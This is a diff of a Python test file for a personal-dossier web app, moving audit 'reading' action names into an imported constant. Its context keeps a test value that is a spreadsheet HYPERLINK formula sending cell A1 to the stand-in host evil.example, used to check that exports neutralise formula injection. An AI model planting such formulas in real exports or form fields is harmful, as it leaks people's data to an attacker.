@@ -11,6 +11,7 @@ from sqlalchemy.exc import IntegrityError
 from test_route_walk import ACCOUNTS, declared_roles
 
 from conftest import count, local_time
+from core.audit import READING_ACTIONS
 from core.db.faults import fault_summary
 from core.models import AuditEvent, Dossier
 from core.reports.documents import tables_xlsx
@@ -22,12 +23,6 @@ from tests import factories
 
 FORMULA_NAME = '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")'
 PERSONAL_BLUEPRINTS = ("dossiers", "privacy", "desk", "dashboard")
-READING = (
-    "dossier.viewed",
-    "dossier.form_printed",
-    "reception_slip.printed",
-    "register.downloaded",
-)
 
 
 def test_a_formula_looking_name_is_exported_as_text(auth, client, demo):
@@ -101,7 +96,7 @@ def test_reading_personal_data_leaves_a_trace(app, demo, auth, client):
     assert client.get("/dossiers/register.xlsx?year=2026").status_code == 200
     db.session.rollback()
     events = db.session.scalars(
-        db.select(AuditEvent).where(AuditEvent.action.in_(READING)).order_by(AuditEvent.id)
+        db.select(AuditEvent).where(AuditEvent.action.in_(READING_ACTIONS)).order_by(AuditEvent.id)
     ).all()
     user = factories.user("canbo1")
     assert [(event.action, event.user_id) for event in events] == [
